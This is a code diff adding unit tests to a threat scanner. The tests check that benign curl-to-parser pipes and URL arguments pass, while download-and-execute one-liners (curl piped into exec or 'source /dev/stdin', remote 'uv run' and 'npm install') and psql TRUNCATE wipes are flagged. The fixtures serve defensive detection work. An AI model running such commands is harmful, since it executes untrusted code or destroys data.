@@ -1274,3 +1274,26 @@ describe('configuration and tooling a project setup writes or runs', () => {
     expect(threats(fence('js', "const fs = require('fs'), os = require('os'), path = require('path');\nfs.rmSync(path.join(os.homedir(), '.cache', 'mytool'), { recursive: true, force: true });"))).toEqual([]);
   });
 });
+
+describe('precision on code that only looks like an attack', () => {
+  it('lets a fixed inline program parse a download piped into it, but not run it', () => {
+    expect(threats(fence('bash', 'curl -s "https://pkgs.example.net/pypi/tool/json" | python3 -c "import json,sys; d=json.load(sys.stdin); print(d[\'info\'][\'version\'])"'))).toEqual([]);
+    expect(threats(fence('bash', 'check() { curl -s "$SITE/sitemap.xml" | python3 -c "import sys,xml.etree.ElementTree as ET; ET.parse(sys.stdin)"; }'))).toEqual([]);
+    expect(threats(fence('bash', 'curl -s https://x.example.net/a | python3 -c "import sys; exec(sys.stdin.read())"'))).toEqual(['threat/download-exec 8:35 error']);
+    expect(threats(fence('bash', 'curl -s https://x.example.net/a | bash -c "source /dev/stdin"'))).toEqual(['threat/download-exec 8:35 error']);
+    expect(threats(fence('bash', 'S=$(curl -fsSL https://x.example.net/s.sh)\nbash -c "$S"'))).toEqual(['threat/download-exec 9:1 error']);
+  });
+
+  it('reads a URL passed to a script that `run` starts as an argument, not as what is run', () => {
+    expect(threats(fence('bash', 'npm run test:e2e -- --base-url https://preview.example.com'))).toEqual([]);
+    expect(threats(fence('bash', 'uv run scripts/fetch_meta.py --paper "https://papers.example.org/abs/1234"'))).toEqual([]);
+    expect(threats(fence('bash', 'uv run https://x.example.net/tool.py --fix'))).toEqual(['threat/download-exec 8:1 error']);
+    expect(threats(fence('bash', 'npm install https://x.example.net/pkg.tgz'))).toEqual(['threat/download-exec 8:1 error']);
+  });
+
+  it('takes TRUNCATE in an English help text for prose, and in SQL for a wipe', () => {
+    expect(threats(fence('python', 'from dataclasses import field\nlimit: int = field(default=None, metadata={"help": "Truncate training set to this many rows."})'))).toEqual([]);
+    expect(threats(fence('bash', 'psql "$DATABASE_URL" -c "TRUNCATE users"'))).toEqual(['threat/destructive 8:1 error']);
+    expect(threats(fence('bash', 'psql "$DATABASE_URL" -c "truncate table orders cascade;"'))).toEqual(['threat/destructive 8:1 error']);
+  });
+});
